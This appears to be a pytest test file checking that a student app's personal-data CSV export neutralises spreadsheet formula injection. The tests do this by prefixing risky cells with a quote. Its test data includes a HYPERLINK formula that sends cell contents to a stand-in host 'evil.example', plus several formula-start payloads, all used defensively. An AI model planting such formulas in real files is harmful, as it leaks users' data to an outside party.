"""The student's export opens safely in a spreadsheet: text that starts like a formula is
kept as text (issue #16)."""

import csv
import io
import json
import zipfile

import pytest

from accounts.data_ownership import export_personal_data, spreadsheet_safe
from checkins.services import record_checkin
from habits.services import create_habit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows_of(archive: zipfile.ZipFile, name: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def test_a_formula_in_a_note_or_a_name_is_text_in_the_csv(student):
    record_checkin(
        student=student,
        values={
            "mood": 3, "stress": 3, "energy": 3, "sleep_hours": "7", "sleep_quality": 3,
            "loneliness": 3, "purpose": 3, "note": FORMULA,
        },
    )  # fmt: skip
    create_habit(student=student, name="@SUM(1+1)", per_week=3)

    archive = zipfile.ZipFile(io.BytesIO(export_personal_data(user=student)))

    assert rows_of(archive, "checkins.csv")[0]["note"] == "'" + FORMULA
    assert [r["name"] for r in rows_of(archive, "habits.csv")] == ["'@SUM(1+1)"]
    assert json.loads(archive.read("checkins.json"))[0]["note"] == FORMULA  # JSON: exact text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_each_formula_start_is_neutralised(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", "", 3, -3, None, 2.5])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value
